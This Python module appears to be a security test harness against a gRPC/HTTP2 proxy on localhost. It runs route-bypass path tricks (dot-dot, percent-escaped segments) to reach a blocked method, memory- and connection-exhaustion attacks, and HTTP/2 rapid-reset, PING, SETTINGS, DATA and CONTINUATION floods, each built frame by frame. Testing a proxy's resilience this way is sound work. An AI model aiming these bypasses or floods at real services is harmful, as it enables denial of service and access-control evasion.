"""The attacks. Each prints its own section and returns its summary lines
(`attack=... result=... peak_rss_kb=... normal_call=...`). Counts and times are bounded by the
constants below; every connection is to 127.0.0.1.
"""
import select
import socket
import threading
import time
import urllib.parse
from collections import Counter

from h2wire import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    SETTINGS_ENABLE_PUSH, SETTINGS_INITIAL_WINDOW_SIZE, Conn, error_name, frame,
    grpc_frame, grpc_request_headers, header_block, settings_payload,
)
from proxyrun import alive_reply_message, alive_request, calls_total

ALIVE = "/api.Prod/Alive"
CALL_TIMEOUT = 10.0

BYPASS_MESSAGE = "bypass-probe"
BYPASS_PATHS = [
    ("/api.Prod/Fail", "control: the blocked method itself"),
    ("/api.Prod/Alive", "control: an allowed method"),
    ("/api.Prod/x/api.Prod/Fail", "extra segments"),
    ("/api.Prod//api.Prod/Fail", "empty segment"),
    ("/api.Prod/../api.Prod/Fail", "dot-dot segment"),
    ("/api.Prod/./api.Prod/Fail", "dot segment"),
    ("/api.Prod/%46ail", "percent-escaped method"),
    ("/api.Prod/x/api.Prod/%46ail", "extra segments, escaped"),
    ("/api.Prod/%2e%2e/api.Prod/Fail", "escaped dot-dot"),
    ("/api.Prod/x%2F..%2Fapi.Prod%2FFail", "escaped slashes"),
    ("/api%2EProd/Fail", "escaped service dot"),
    ("/api.Prod/Fail?x=1", "query string"),
    ("/api.Prod/x/api.Prod/Fail?x=1", "extra segments and query"),
    ("/api.Prod/Fail/", "trailing slash"),
]

DISTINCT_PATHS = 20000
DISTINCT_PATH_BYTES = 4096
DISTINCT_CONNECTIONS = 4
DISTINCT_IN_FLIGHT = 100
DISTINCT_TIME_LIMIT = 60.0

HOLD_STREAMS = 300
HOLD_DECLARED = 4_700_000
HOLD_SENT = 4_600_000  # bytes of DATA per stream, the 5-byte header included
HOLD_TIME_LIMIT = 40.0
HOLD_STREAM_STALL = 2.0
HOLD_SECONDS = 3.0

WINDOW_ZERO_CLIENTS = 8
WINDOW_ZERO_BYTES = 3 * 1024 * 1024
WINDOW_ZERO_HOLD = 4.0

SILENT_CONNECTIONS = 200
SILENT_WAIT_MAX = 40.0

FLOOD_FRAMES = 100_000
RAPID_RESETS = 20_000
CONTINUATION_FRAMES = 10_000
FLOOD_TIME_LIMIT = 10.0
FLOOD_BATCH = 1000
FLOOD_SETTLE = 3.0


def section(title):
    print("\n== %s ==" % title, flush=True)


def show(lines):
    for line in lines:
        print(line, flush=True)


def summary(name, result, measurement):
    return "attack=%s result=%s %s" % (name, result.replace(" ", "_"), measurement.summary_fields())


def reply_message(stream):
    """AliveResponse.message of the stream's first gRPC message, or None."""
    data = bytes(stream.data)
    if len(data) < 5 or data[0] != 0:
        return None
    return alive_reply_message(data[5:5 + int.from_bytes(data[1:5], "big")])


def grpc_outcome(stream):
    """(grpc status name or outcome, grpc-message decoded)."""
    message = stream.header("grpc-message")
    return stream.outcome(), urllib.parse.unquote(message) if message else ""


# -- 1. route bypass -----------------------------------------------------------------------------

def route_bypass(ctx):
    section("1. route bypass: exact route /api.Prod/Fail is bidi = \"unimplemented\" (blocked)")
    measurement = ctx.monitor.begin()
    body = grpc_frame(alive_request(BYPASS_MESSAGE))
    rows, ran_fail, attempts = [], 0, 0
    conn = None
    for path, what in BYPASS_PATHS:
        if conn is None or conn.closed or conn.goaway is not None:
            if conn is not None:
                conn.close()
            conn = Conn(ctx.port)
        stream_id = conn.call(grpc_request_headers(path), body)
        stream = conn.wait_stream(stream_id, CALL_TIMEOUT)
        outcome, message = grpc_outcome(stream)
        http_status = stream.header(":status") or "-"
        if outcome == "INVALID_ARGUMENT" and message.startswith("bad: " + BYPASS_MESSAGE):
            verdict = "RAN Fail"
        elif outcome == "UNIMPLEMENTED" and message:
            verdict = "refused"
        elif outcome == "UNIMPLEMENTED":
            verdict = "function: no such method"
        elif outcome == "OK":
            verdict = "ran: %r" % (reply_message(stream) or "")[:30]
        else:
            verdict = "other"
        if not what.startswith("control"):
            attempts += 1
            ran_fail += verdict == "RAN Fail"
        rows.append((path, what, http_status, outcome, message[:100], verdict))
    measurement.probe_now()
    conn.close()
    measurement.end()
    width = max(len(r[0]) for r in rows)
    show(["  verdict: RAN Fail = the blocked method ran; refused = the proxy answered UNIMPLEMENTED with a",
          "  reason; function: no such method = the call was forwarded and the function's router found no",
          "  method (UNIMPLEMENTED, no message)", ""])
    show(["  %-*s  %-4s  %-16s  %-24s  %s" % (width, "path", "http", "grpc-status", "verdict", "grpc-message")])
    for path, what, http_status, outcome, message, verdict in rows:
        show(["  %-*s  %-4s  %-16s  %-24s  %s" % (width, path, http_status, outcome, verdict, message),
              "  %-*s  (%s)" % (width, "", what)])
    show(measurement.lines())
    return [summary("route_bypass", "ran_Fail=%d/%d" % (ran_fail, attempts), measurement)]


# -- 2. distinct paths ---------------------------------------------------------------------------

def distinct_paths(ctx):
    section("2. %d calls to distinct %d-byte paths under /api.Prod/" % (DISTINCT_PATHS, DISTINCT_PATH_BYTES))
    metrics_before = ctx.proxy.metrics()
    measurement = ctx.monitor.begin()
    outcomes = Counter()
    lock = threading.Lock()
    body = grpc_frame(alive_request("x"))
    deadline = time.monotonic() + DISTINCT_TIME_LIMIT
    started = time.monotonic()
    counter = iter(range(DISTINCT_PATHS))

    def run_connection():
        slots = threading.Semaphore(DISTINCT_IN_FLIGHT)

        def on_end(stream):
            with lock:
                outcomes[stream.outcome()] += 1
            slots.release()

        try:
            conn = Conn(ctx.port, on_end=on_end)
        except OSError as err:
            with lock:
                state[err] = "could not connect: %s" % err
            return 0
        sent = 0
        try:
            for index in counter:
                while not slots.acquire(timeout=0.5):
                    if time.monotonic() > deadline or conn.closed:
                        return sent
                if conn.closed or time.monotonic() > deadline:
                    return sent
                head = "/api.Prod/%08d-" % index
                path = head + "p" * (DISTINCT_PATH_BYTES - len(head))
                conn.call(grpc_request_headers(path), body, deadline=deadline)
                sent += 1
            conn.wait(lambda: conn.ended_count == len(conn.streams),
                      max(0.0, deadline - time.monotonic()))
            return sent
        finally:
            with lock:
                state[conn] = conn.summary()
            conn.close()

    state = {}
    sent_counts = []
    threads = [threading.Thread(target=lambda: sent_counts.append(run_connection())) for _ in range(DISTINCT_CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    elapsed = time.monotonic() - started
    measurement.end()
    metrics_after = ctx.proxy.metrics()
    finished = sum(outcomes.values())
    method_lines = sum(1 for line in metrics_after.splitlines() if b'method="/api.Prod/' in line)
    show([
        "  sent %d calls in %.1fs over %d connections; %d answered: %s" % (
            sum(sent_counts), elapsed, DISTINCT_CONNECTIONS, finished,
            ", ".join("%s %d" % kv for kv in outcomes.most_common())),
        "  connections: %s" % "; ".join(sorted(set(state.values()))),
        "  /metrics: %d bytes before, %d bytes after (%d lines labelled with an /api.Prod/ path)" % (
            len(metrics_before), len(metrics_after), method_lines),
    ])
    show(measurement.lines())
    growth = (measurement.after or {}).get("rss", 0) - measurement.before["rss"]
    return [summary(
        "distinct_paths", "sent=%d answered=%d rss_growth_kb=%d metrics_bytes=%d" % (
            sum(sent_counts), finished, growth, len(metrics_after)),
        measurement)]


# -- 3. held bytes -------------------------------------------------------------------------------

def held_streams(ctx):
    section("3a. one connection, %d streams, each a 5-byte gRPC header declaring %d bytes, then %d of them, held" % (
        HOLD_STREAMS, HOLD_DECLARED, HOLD_SENT - 5))
    measurement = ctx.monitor.begin()
    conn = Conn(ctx.port)
    deadline = time.monotonic() + HOLD_TIME_LIMIT
    chunk = grpc_frame(b"\x0a" * (HOLD_SENT - 5), declared_length=HOLD_DECLARED)
    opened, bytes_sent, started = [], 0, time.monotonic()
    for _ in range(HOLD_STREAMS):
        if conn.closed or time.monotonic() > deadline:
            break
        stream_id = conn.open_stream(grpc_request_headers(ALIVE), deadline=deadline)
        if stream_id is None:
            break
        opened.append(stream_id)
        stall = min(deadline, time.monotonic() + HOLD_STREAM_STALL)
        sent = 0
        while sent < len(chunk) and not conn.closed:
            now = time.monotonic()
            more = conn.send_data(stream_id, chunk[sent:], deadline=min(deadline, now + HOLD_STREAM_STALL))
            sent += more
            if more == 0 and (time.monotonic() >= stall or conn.streams[stream_id].ended):
                break
            if more:
                stall = min(deadline, time.monotonic() + HOLD_STREAM_STALL)
        bytes_sent += sent
    conn.flush(5.0)
    send_time = time.monotonic() - started
    time.sleep(HOLD_SECONDS)
    held = measurement.snapshot()
    with conn.cond:
        outcomes = Counter(conn.streams[s].outcome() for s in opened)
        messages = Counter(grpc_outcome(conn.streams[s])[1][:90] for s in opened if conn.streams[s].ended)
    conn_state = conn.summary()
    conn.close()
    measurement.end()
    show([
        "  opened %d streams, sent %d bytes of DATA in %.1fs (the proxy's flow control let through what it read)" % (
            len(opened), bytes_sent, send_time),
        "  streams after %.0fs held: %s" % (HOLD_SECONDS, ", ".join("%s %d" % kv for kv in outcomes.most_common())),
    ])
    for message, count in messages.most_common(3):
        if message:
            show(["  grpc-message (%d streams): %s" % (count, message)])
    show(["  connection: %s" % conn_state])
    show(measurement.lines())
    return [summary("held_streams", "streams=%d sent_bytes=%d held_rss_kb=%s answered=%d" % (
        len(opened), bytes_sent, held["rss"] if held else "-",
        sum(n for k, n in outcomes.items() if not k.startswith("open"))), measurement)]


def window_zero(ctx):
    section("3b. %d clients, each asking for a %d-byte answer with its receive window at 0" % (
        WINDOW_ZERO_CLIENTS, WINDOW_ZERO_BYTES))
    measurement = ctx.monitor.begin()
    body = grpc_frame(alive_request("y" * WINDOW_ZERO_BYTES))
    conns, streams = [], []
    for _ in range(WINDOW_ZERO_CLIENTS):
        conn = Conn(ctx.port, settings=[(SETTINGS_INITIAL_WINDOW_SIZE, 0)], auto_window=False)
        conns.append(conn)
        streams.append(conn.call(grpc_request_headers(ALIVE), body, deadline=time.monotonic() + CALL_TIMEOUT))
    for conn, stream_id in zip(conns, streams):
        if stream_id is not None:
            conn.wait(lambda c=conn, s=stream_id: c.streams[s].headers is not None, CALL_TIMEOUT)
    time.sleep(WINDOW_ZERO_HOLD)
    held = measurement.snapshot()
    outcomes = Counter()
    for conn, stream_id in zip(conns, streams):
        with conn.cond:
            stream = conn.streams.get(stream_id) if stream_id is not None else None
            outcomes[stream.outcome() if stream else "not sent"] += 1
    states = Counter(conn.summary() for conn in conns)
    for conn in conns:
        conn.close()
    measurement.end()
    per_client = ((held["rss"] if held else 0) - measurement.before["rss"]) / WINDOW_ZERO_CLIENTS
    show([
        "  streams after %.0fs: %s" % (WINDOW_ZERO_HOLD, ", ".join("%s %d" % kv for kv in outcomes.most_common())),
        "  connections: %s" % "; ".join("%s x%d" % kv for kv in states.most_common()),
        "  RSS held per client: %+.0f kB" % per_client,
    ])
    show(measurement.lines())
    return [summary("window_zero", "clients=%d held_rss_per_client_kb=%.0f" % (WINDOW_ZERO_CLIENTS, per_client),
                    measurement)]


# -- 4. silent connections -----------------------------------------------------------------------

def silent_connections(ctx):
    wait = SILENT_WAIT_MAX
    if ctx.timeouts:
        wait = min(SILENT_WAIT_MAX, 2 * max(ctx.timeouts) + 5)
    section("4. %d silent TCP connections and %d HTTP/2 connections with one HEADERS-only stream, up to %.0fs" % (
        SILENT_CONNECTIONS, SILENT_CONNECTIONS, wait))
    show(["  timeouts passed to the proxy: %s" % (" ".join(ctx.flags_text) or "none (the binary has no such flags)")])
    measurement = ctx.monitor.begin()
    raw, refused = [], 0
    for _ in range(SILENT_CONNECTIONS):
        try:
            raw.append(socket.create_connection(("127.0.0.1", ctx.port), timeout=5))
        except OSError:
            refused += 1
    h2, h2_refused = [], 0
    for _ in range(SILENT_CONNECTIONS):
        try:
            conn = Conn(ctx.port)
            conn.open_stream(grpc_request_headers(ALIVE))
            h2.append(conn)
        except OSError:
            h2_refused += 1
    raw_closed = set()
    poller = select.poll()
    by_fd = {sock.fileno(): sock for sock in raw}
    for fd in by_fd:
        poller.register(fd, select.POLLIN | select.POLLHUP | select.POLLERR)
    started = time.monotonic()
    timeline, next_mark = [], 0.0
    while True:
        elapsed = time.monotonic() - started
        if len(raw_closed) < len(raw):
            for fd, _ in poller.poll(500):
                sock = by_fd[fd]
                try:
                    if sock.recv(4096):
                        continue
                except OSError:
                    pass
                raw_closed.add(sock)
                poller.unregister(fd)
        else:
            time.sleep(0.5)
        h2_closed = sum(1 for c in h2 if c.closed)
        h2_goaway = sum(1 for c in h2 if c.goaway is not None)
        h2_answered = sum(1 for c in h2 if any(s.ended for s in c.streams.values()))
        if elapsed >= next_mark:
            status = ctx.proxy.status() or {}
            timeline.append("  t=%4.0fs  raw closed %3d/%d   h2 closed %3d/%d (GOAWAY %d, stream answered %d)   proxy fds %s" % (
                elapsed, len(raw_closed), len(raw), h2_closed, len(h2), h2_goaway, h2_answered, status.get("fds", "-")))
            print(timeline[-1], flush=True)
            next_mark += 5.0
        if elapsed >= wait or (len(raw_closed) == len(raw) and h2_closed == len(h2)):
            break
    measurement.snapshot()
    elapsed = time.monotonic() - started
    h2_closed = sum(1 for c in h2 if c.closed)
    answers = Counter(s.outcome() for c in h2 for s in c.streams.values())
    goaways = Counter(error_name(c.goaway[1]) for c in h2 if c.goaway is not None)
    for sock in raw:
        sock.close()
    for conn in h2:
        conn.close()
    measurement.end()
    show([
        "  after %.0fs: %d of %d raw TCP connections closed by the proxy (%d refused at connect)" % (
            elapsed, len(raw_closed), len(raw), refused),
        "  after %.0fs: %d of %d HTTP/2 connections closed by the proxy (%d refused at connect); GOAWAY: %s" % (
            elapsed, h2_closed, len(h2), h2_refused, ", ".join("%s %d" % kv for kv in goaways.items()) or "none"),
        "  their streams: %s" % ", ".join("%s %d" % kv for kv in answers.most_common()),
    ])
    show(measurement.lines())
    return [summary("silent_connections", "raw_closed=%d/%d h2_closed=%d/%d after_s=%.0f" % (
        len(raw_closed), len(raw), h2_closed, len(h2), elapsed), measurement)]


# -- 5. native gRPC over HTTP/1.1 ----------------------------------------------------------------

def http11_native(ctx):
    section("5. native gRPC (application/grpc, te: trailers) over HTTP/1.1")
    measurement = ctx.monitor.begin()
    body = grpc_frame(alive_request("http1"))
    request = (
        "POST %s HTTP/1.1\r\nhost: 127.0.0.1:%d\r\ncontent-type: application/grpc\r\nte: trailers\r\n"
        "content-length: %d\r\nconnection: close\r\n\r\n" % (ALIVE, ctx.port, len(body))
    ).encode() + body
    response = bytearray()
    with socket.create_connection(("127.0.0.1", ctx.port), timeout=CALL_TIMEOUT) as sock:
        sock.sendall(request)
        try:
            while True:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                response += chunk
        except socket.timeout:
            pass
    measurement.probe_now()
    measurement.end()
    head, _, rest = bytes(response).partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = [line.split(":", 1)[0].strip().lower() for line in lines[1:]]
    body_text, trailers = rest, []
    if "transfer-encoding" in headers and b"chunked" in head.lower():
        body_text, trailers = dechunk(rest)
    in_headers = "grpc-status" in headers
    in_trailers = any(t.split(":", 1)[0].strip().lower() == "grpc-status" for t in trailers)
    show(["  status line: %s" % (lines[0] if lines and lines[0] else "(nothing)")])
    show(["  header: %s" % line for line in lines[1:]])
    show(["  body: %d bytes %r" % (len(body_text), body_text[:80])])
    show(["  trailer: %s" % t for t in trailers] or ["  trailers: none"])
    where = "headers" if in_headers else "trailers" if in_trailers else "nowhere"
    show(["  grpc-status appeared: %s" % where])
    show(measurement.lines())
    status_code = lines[0].split(" ")[1] if lines and len(lines[0].split(" ")) > 1 else "none"
    return [summary("http11_native", "http=%s grpc_status_in=%s" % (status_code, where), measurement)]


def dechunk(data):
    """(body, trailer lines) of a chunked body."""
    body, offset = bytearray(), 0
    while True:
        end = data.find(b"\r\n", offset)
        if end < 0:
            return bytes(body), []
        size = int(data[offset:end].split(b";")[0] or b"0", 16)
        offset = end + 2
        if size == 0:
            trailer = data[offset:].split(b"\r\n\r\n")[0]
            return bytes(body), [t for t in trailer.decode("latin-1").split("\r\n") if t]
        body += data[offset:offset + size]
        offset += size + 2


# -- 6. floods -----------------------------------------------------------------------------------

def _flood(ctx, name, title, batches, prelude=b""):
    """Sends `prelude`, then each batch (bytes, frames) until FLOOD_TIME_LIMIT; then reports what
    the proxy did."""
    section(title)
    metrics_before = calls_total(ctx.proxy.metrics())
    measurement = ctx.monitor.begin()
    conn = Conn(ctx.port)
    conn.wait(lambda: conn.peer_settings_seen, CALL_TIMEOUT)
    deadline = time.monotonic() + FLOOD_TIME_LIMIT
    started = time.monotonic()
    if prelude:
        conn.send(prelude)
    frames, stopped = 0, "sent all"
    for data, count in batches:
        if conn.closed:
            stopped = "connection closed"
            break
        if not conn.send(data, deadline=deadline):
            stopped = "connection closed" if conn.closed else "proxy stopped reading (time limit)"
            break
        frames += count
    if stopped == "sent all" and not conn.flush(max(0.1, deadline - time.monotonic())):
        stopped = "connection closed" if conn.closed else "proxy stopped reading (time limit)"
    elapsed = time.monotonic() - started
    measurement.probe_now()
    conn.wait(lambda: conn.goaway is not None, FLOOD_SETTLE)
    state = conn.summary()
    closed_by_proxy = conn.closed
    received = ", ".join("%s %d" % kv for kv in sorted(conn.received.items()))
    conn.close()
    measurement.end()
    calls = calls_total(ctx.proxy.metrics()) - metrics_before
    show([
        "  queued %d frames in %.2fs (%s)" % (frames, elapsed, stopped),
        "  the proxy sent: %s" % (received or "nothing"),
        "  connection: %s" % state,
        "  calls the proxy finished meanwhile (all, from /metrics): %d" % calls,
    ])
    show(measurement.lines())
    goaway = "%s(last_stream=%d)" % (error_name(conn.goaway[1]), conn.goaway[0]) if conn.goaway else "none"
    closed = "yes" if closed_by_proxy else "no"
    return [summary(name, "frames=%d goaway=%s closed=%s" % (frames, goaway, closed), measurement)]


def _batched(make, total):
    for start in range(0, total, FLOOD_BATCH):
        count = min(FLOOD_BATCH, total - start)
        yield make(start, count), count


def floods(ctx):
    results = []
    block = header_block(grpc_request_headers(ALIVE))

    def resets(start, count):
        out = bytearray()
        for i in range(start, start + count):
            stream_id = 1 + 2 * i
            out += frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block)
            out += frame(RST_STREAM, 0, stream_id, (8).to_bytes(4, "big"))
        return bytes(out)

    results += _flood(ctx, "rapid_reset", "6a. rapid reset: %d x (HEADERS with END_STREAM, then RST_STREAM CANCEL)" % RAPID_RESETS,
                      _batched(resets, RAPID_RESETS))
    ping = frame(PING, 0, 0, b"abuse!!!")
    results += _flood(ctx, "ping_flood", "6b. PING flood: %d PINGs" % FLOOD_FRAMES,
                      _batched(lambda s, n: ping * n, FLOOD_FRAMES))
    settings = frame(SETTINGS, 0, 0, settings_payload([(SETTINGS_ENABLE_PUSH, 0)]))
    results += _flood(ctx, "settings_flood", "6c. SETTINGS flood: %d SETTINGS frames" % FLOOD_FRAMES,
                      _batched(lambda s, n: settings * n, FLOOD_FRAMES))
    empty = frame(DATA, 0, 1, b"")
    results += _flood(ctx, "data_flood", "6d. DATA flood: %d empty DATA frames on one open stream" % FLOOD_FRAMES,
                      _batched(lambda s, n: empty * n, FLOOD_FRAMES),
                      prelude=frame(HEADERS, END_HEADERS, 1, block))
    big = frame(DATA, 0, 1, b"\0" * 16384)
    over = 4 * 1024 * 1024 // 16384
    results += _flood(ctx, "data_over_window", "6e. DATA past the flow-control window: %d x 16 KiB on one stream, no waiting" % over,
                      _batched(lambda s, n: big * n, over),
                      prelude=frame(HEADERS, END_HEADERS, 1, block))
    filler = header_block([("x-flood", "f" * 1000)])
    results += _flood(ctx, "continuation_flood", "6f. CONTINUATION flood: HEADERS without END_HEADERS, then %d x 1 KB CONTINUATION" % CONTINUATION_FRAMES,
                      _batched(lambda s, n: frame(CONTINUATION, 0, 1, filler) * n, CONTINUATION_FRAMES),
                      prelude=frame(HEADERS, 0, 1, block))
    return results
